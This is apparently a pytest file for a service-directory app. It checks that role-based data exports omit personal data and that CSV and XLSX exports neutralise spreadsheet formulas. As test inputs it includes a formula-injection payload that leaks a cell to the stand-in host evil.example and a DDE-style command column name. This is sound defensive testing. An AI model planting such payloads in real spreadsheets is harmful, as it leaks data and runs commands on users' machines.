"""Export holds what the staff member may read, without personal data, and neutralises spreadsheet formulas
(README, "Import and export"). In-process, in a throw-away database with the demo city."""

import csv
import io
import re
import zipfile

import pytest

from admin_forms import User, client_for, staff
from import_files import export_tables, write_table
from hsds import tabular  # noqa: E402
from hsds import models as m  # noqa: E402

pytestmark = pytest.mark.usefixtures("demo_city_database", "rolled_back")


def test_an_editor_exports_only_their_organisations_without_personal_data(contact):
    a, a_service, b, b_location = contact
    tables = export_tables(staff("amira", "editor", [a]))
    assert {r["id"] for r in tables["organizations.csv"]} == {str(a.id)}
    assert {r["organization_id"] for r in tables["services.csv"]} == {str(a.id)}
    assert str(b_location.id) not in {r["id"] for r in tables["locations.csv"]}
    assert [r["id"] for r in tables["contacts.csv"]] == ["c-a"]
    assert "name" not in tables["contacts.csv"][0] and "email" not in tables["contacts.csv"][0]
    assert "metadata.csv" not in tables and "notes.csv" not in tables
    assert len(tables["taxonomy_terms.csv"]) == m.TaxonomyTerm.objects.count()  # shared: every editor has them


def test_a_viewer_exports_every_organisation_without_personal_data(contact):
    a, a_service, b, b_location = contact
    tables = export_tables(staff("vera", "viewer"))
    assert len(tables["organizations.csv"]) == m.Organization.objects.count()
    assert sorted(r["id"] for r in tables["contacts.csv"]) == ["c-a", "c-b"]
    assert not any(key in row for row in tables["contacts.csv"] for key in ("name", "email", "title"))
    assert "metadata.csv" not in tables and "notes.csv" not in tables


def test_administrators_export_everything_through_the_staff_page(contact):
    response = client_for(User.objects.create_superuser("root", password="pw-root")).get("/admin/export/?format=zip")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        contacts = archive.read("contacts.csv").decode()
        names = set(archive.namelist())
    assert "dana@example.org" in contacts and "Bo Private" in contacts
    assert {"metadata.csv", "notes.csv"} <= names
    viewer = client_for(staff("vera", "viewer")).get("/admin/export/?format=zip")
    with zipfile.ZipFile(io.BytesIO(viewer.content)) as archive:
        assert "dana@example.org" not in archive.read("contacts.csv").decode()


# --- 3. formulas --------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_export_neutralises_formulas_and_the_round_trip_keeps_the_text(two, tmp_path):
    a, a_service, b, b_location = two
    a_service.name = FORMULA
    a_service.alert = "-1+2"
    a_service.extra = {**(a_service.extra or {}), "fees": "-5.50"}
    a_service.wait_time = "'=already quoted"
    a_service.save()
    buffer = io.BytesIO()
    tabular.export(buffer, "zip")
    with zipfile.ZipFile(buffer) as archive:
        services = archive.read("services.csv").decode()
        archive.extractall(tmp_path / "package")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(services, newline=""))}
    assert rows[str(a_service.id)]["name"] == "'" + FORMULA and rows[str(a_service.id)]["alert"] == "'-1+2"
    assert not re.search(r"(^|,)[=+@]", services, re.M)
    assert rows[str(a_service.id)]["fees"] == "-5.50"  # a negative number is not a formula: left as it is
    assert rows[str(a_service.id)]["wait_time"] == "''=already quoted"
    report = tabular.apply(tmp_path / "package", who="root")
    assert report.ok and report.changes == 0, report.as_text()
    assert m.Service.objects.get(id=a_service.id).name == FORMULA


def test_xlsx_export_writes_every_cell_and_header_as_text(two):
    a, a_service, b, b_location = two
    a_service.extra = {**(a_service.extra or {}), "=1+1": "=SUM(1,2)"}  # stored before column names were checked
    a_service.name = FORMULA
    a_service.save()
    workbook = export_tables(fmt="xlsx")["xlsx"]
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("column", ["=cmd|' /C calc'!A0", "@sum(a1)", "+x", "-x", "bad\ttab"])
def test_imported_column_names_are_checked(two, tmp_path, column):
    a, a_service, b, b_location = two
    row = {"id": str(a_service.id), column: "x"}
    report = tabular.apply(write_table(tmp_path / "package", "services", list(row), [row]), who="root")
    assert not report.applied and "are not allowed: a column name starts with a letter or digit" in str(report.errors[0])
    assert column not in (m.Service.objects.get(id=a_service.id).extra or {})
